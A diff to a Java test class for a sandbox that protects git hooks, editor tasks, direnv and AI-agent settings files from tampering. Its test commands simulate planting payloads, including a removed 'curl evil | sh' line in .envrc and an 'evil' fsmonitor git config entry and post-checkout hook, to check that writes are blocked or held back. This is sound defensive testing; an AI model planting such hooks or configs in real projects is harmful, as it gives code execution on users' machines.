@@ -22,7 +22,7 @@ class ProtectedPathsAttackTest {
     @Test
     void absentNamesAtTheRootAreReadOnlyFilesWhereTheNameIsAFileAndLeaveNoTrace(Fixture f) throws Exception {
         f.host("git", "init", "-q", ".");
-        Fixture.Run r = f.run("for n in .gitmodules .mcp.json .envrc .claude/settings.json .claude/settings.local.json"
+        Fixture.Run r = f.run("for n in .gitmodules .mcp.json .claude/settings.json .claude/settings.local.json"
                 + " .cursor/mcp.json .gemini/settings.json .amazonq/mcp.json .devcontainer.json .bashrc .gitconfig; do"
                 + " if [ -f $n ]; then echo \"$n file $(wc -c < $n)\"; else echo \"$n NOT-A-FILE\"; fi; done;"
                 + " for n in .vscode .idea .devcontainer; do [ -d $n ] && echo \"$n folder\"; done;"
@@ -32,7 +32,7 @@ class ProtectedPathsAttackTest {
                 + " echo '{}' > .devcontainer/devcontainer.json; echo devcontainer=$?;"
                 + " git status --porcelain --untracked-files=all; echo status=$?");
         assertThat(r.out()).doesNotContain("NOT-A-FILE")
-                .contains(".gitmodules file 0", ".envrc file 0", ".bashrc file 0", ".gitconfig file 0")
+                .contains(".gitmodules file 0", ".bashrc file 0", ".gitconfig file 0")
                 .contains(".mcp.json file 3", ".claude/settings.json file 3", ".claude/settings.local.json file 3",
                         ".cursor/mcp.json file 3", ".gemini/settings.json file 3", ".amazonq/mcp.json file 3",
                         ".devcontainer.json file 3")
@@ -40,7 +40,7 @@ class ProtectedPathsAttackTest {
                 .contains("mcp=2", "claude=2", "mvclaude=1", "rmcursor=1", "devcontainer=2", "status=0")
                 .as("git inside ignores the masks").doesNotContain("?? ");
         assertThat(r.err()).contains("Read-only file system");
-        for (String name : new String[] {".gitmodules", ".mcp.json", ".envrc", ".claude", ".cursor", ".gemini",
+        for (String name : new String[] {".gitmodules", ".mcp.json", ".claude", ".cursor", ".gemini",
                 ".amazonq", ".devcontainer", ".devcontainer.json", ".vscode", ".idea", ".bashrc", ".claude-away"}) {
             assertThat(f.workspace.resolve(name)).as(name).doesNotExist();
         }
@@ -73,24 +73,21 @@ class ProtectedPathsAttackTest {
     void nestedProtectedEntriesAreReadOnlyAndTheFoldersAboveThemCannotBeMovedAway(Fixture f) throws Exception {
         f.host("git", "init", "-q", "vendor/lib");
         f.write("apps/web/.vscode/tasks.json", "{\"tasks\":[]}\n");
-        f.write("apps/web/.envrc", "export A=1\n");
         f.write("tools/.claude/settings.json", "{}\n");
         f.write("tools/x.code-workspace", "{}\n");
         Fixture.Run r = f.run("echo '[core] fsmonitor = evil' >> vendor/lib/.git/config; echo gitconfig=$?;"
                 + " echo evil > vendor/lib/.git/hooks/post-checkout; echo hook=$?;"
                 + " echo '{\"tasks\":[{\"command\":\"evil\"}]}' > apps/web/.vscode/tasks.json; echo tasks=$?;"
-                + " echo 'curl evil | sh' >> apps/web/.envrc; echo envrc=$?;"
                 + " echo '{\"hooks\":1}' > tools/.claude/settings.json; echo claude=$?;"
                 + " echo evil > tools/x.code-workspace; echo ws=$?;"
                 // move the folder above away and plant a new one in its place: refused (the folder is pinned)
                 + " mv apps/web apps/old; echo mvweb=$?; mv apps apps-old; echo mvapps=$?; mv vendor/lib vendor/l2;"
                 + " echo mvlib=$?; mv tools/.claude tools/c2; echo mvclaude=$?; echo ok > apps/web/notes.txt; echo notes=$?");
-        assertThat(r.out()).contains("gitconfig=2", "hook=2", "tasks=2", "envrc=2", "claude=2", "ws=2")
+        assertThat(r.out()).contains("gitconfig=2", "hook=2", "tasks=2", "claude=2", "ws=2")
                 .contains("mvweb=1", "mvapps=1", "mvlib=1", "mvclaude=1", "notes=0");
         assertThat(f.workspace.resolve("vendor/lib/.git/config")).content().doesNotContain("evil");
         assertThat(f.workspace.resolve("vendor/lib/.git/hooks/post-checkout")).doesNotExist();
         assertThat(f.workspace.resolve("apps/web/.vscode/tasks.json")).hasContent("{\"tasks\":[]}");
-        assertThat(f.workspace.resolve("apps/web/.envrc")).hasContent("export A=1");
         assertThat(f.workspace.resolve("tools/.claude/settings.json")).hasContent("{}");
         assertThat(f.workspace.resolve("apps/web/notes.txt")).hasContent("ok");
         assertThat(r.notices()).isEmpty();
@@ -108,7 +105,7 @@ class ProtectedPathsAttackTest {
         assertThat(r.out()).contains("vscode=ok", "envrc=ok", "git=ok", "claude=ok", "ws=ok", "link=ok", "gitfile=ok",
                 "dc=ok");
         Path ws = f.workspace;
-        for (String planted : new String[] {"sub/.vscode", "sub/.envrc", "lib/x/.git", "d/.claude/settings.json",
+        for (String planted : new String[] {"sub/.vscode", "d/.claude/settings.json",
                 "team.code-workspace", "e/.claude", "e/.git", "node_modules/p/.idea", "n/.devcontainer",
                 "n/.devcontainer.json"}) {
             assertThat(ws.resolve(planted)).as(planted).doesNotExist();
@@ -119,7 +116,16 @@ class ProtectedPathsAttackTest {
                     .contains("renamed to " + ws.resolve(planted).getFileName() + QUARANTINED));
         }
         assertThat(ws.resolve("sub/.vscode" + QUARANTINED + "/tasks.json")).hasContent("{\"tasks\":[]}");
-        assertThat(r.notices()).hasSize(10);
+        // a new repository stays one (git init's config and sample hooks hold nothing to neutralise)
+        assertThat(ws.resolve("lib/x/.git/HEAD")).isRegularFile();
+        assertThat(f.host("git", "-C", "lib/x", "rev-parse", "--git-dir")).isEqualTo(".git\n");
+        // a tool config is held back, not renamed next to itself
+        assertThat(ws.resolve("sub/.envrc")).doesNotExist();
+        assertThat(f.held().item("sub/.envrc")).isPresent();
+        assertThat(r.notices()).hasSize(10).anySatisfy(line -> assertThat(line).startsWith(ws.resolve("sub/.envrc")
+                + ": created in the sandbox (direnv runs it in the user's shell): held back"))
+                .last().asString().isEqualTo("1 change held back from the workspace; review and apply with: "
+                        + "sallyport accept --workdir " + ws);
     }
 
     @Test
